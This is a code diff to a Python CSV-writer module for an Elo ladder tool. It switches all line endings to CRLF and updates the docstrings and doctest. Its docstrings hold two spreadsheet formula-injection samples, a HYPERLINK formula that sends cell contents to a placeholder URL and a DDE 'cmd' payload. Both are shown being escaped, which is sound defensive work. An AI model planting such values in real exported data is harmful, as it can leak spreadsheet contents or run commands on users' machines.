@@ -8,6 +8,7 @@ history, `elo-core ladder --csv` and `--history`, the tournament report's table 
   that starts with `=`, `+`, `-`, `@`, a tab or a carriage return and is no plain number (`-12.5` is one), is
   written with a leading apostrophe, which Excel, LibreOffice and Google Sheets read as "this is text". A
   player named `=HYPERLINK("http://x"&A1,"Click")` is then shown as his name, not as a link.
+- Lines end with CRLF (RFC 4180), in every file alike.
 - Cells: text; numbers (unrounded, as Python writes them, a whole float without `.0`); `yes`/`no` for a
   boolean; nothing for None.
 - Text cells at most `MAX_CELL` characters, Excel's limit ("Excel specifications and limits": 32,767 characters
@@ -38,6 +39,9 @@ MAX_CELL = 32_767
 """The most characters a text cell is written with (Excel's limit; it counts UTF-16 units, as it stores them)."""
 ELLIPSIS = "\u2026"
 """The last character of a cell that was cut."""
+NEWLINE = "\r\n"
+"""Every line's end, in every CSV written (the ladder's, the CLI's, the report's): CRLF, as RFC 4180 writes it, so
+that one club's two downloads do not differ; every spreadsheet reads it."""
 
 
 def _utf16_length(text: str) -> int:
@@ -93,21 +97,17 @@ def _quoted(text: str, separator: str, written: bool = False) -> str:
     return text
 
 
-def write_csv(rows: Iterable[Sequence[Any]], separator: str = ",", newline: str = "\n") -> str:
-    """Rows of cells (the first one a header, as the caller gives it) as CSV text, each line ended by `newline`
-    (`\\r\\n` for a file a browser saves, as RFC 4180 writes it; `\\n` for text printed, which the platform ends
-    its own way).
+def write_csv(rows: Iterable[Sequence[Any]], separator: str = ",") -> str:
+    """Rows of cells (the first one a header, as the caller gives it) as CSV text, each line ended by `NEWLINE`.
 
-    >>> print(write_csv([["name", "rating"], ["Meier, Anna", 1512.25], ["=cmd|' /C calc'!A0", -7.5]], ";"), end="")
-    name;rating
-    "Meier, Anna";1512,25
-    '=cmd|' /C calc'!A0;-7,5
+    >>> write_csv([["name", "rating"], ["Meier, Anna", 1512.25], ["=cmd|' /C calc'!A0", -7.5]], ";").splitlines()
+    ['name;rating', '"Meier, Anna";1512,25', "'=cmd|' /C calc'!A0;-7,5"]
     """
     if separator not in SEPARATORS:
         raise ValueError(f"expected the separator to be one of , ; or a tab, got {show(separator)}")
     return "".join(separator.join(_quoted(text := cell(value, separator), separator,
                                           not isinstance(value, str) or bool(_PLAIN_NUMBER.fullmatch(text)))
-                                  for value in row) + newline
+                                  for value in row) + NEWLINE
                    for row in rows)
 
 
@@ -148,4 +148,4 @@ def table_csv(request: Any) -> dict[str, Any]:
     table = _read_table(request.get("table"), problems)
     if problems or table is None:
         return {"ok": False, "errors": problems.items}
-    return {"ok": True, "csv": write_csv(table, separator, "\r\n")}
+    return {"ok": True, "csv": write_csv(table, separator)}
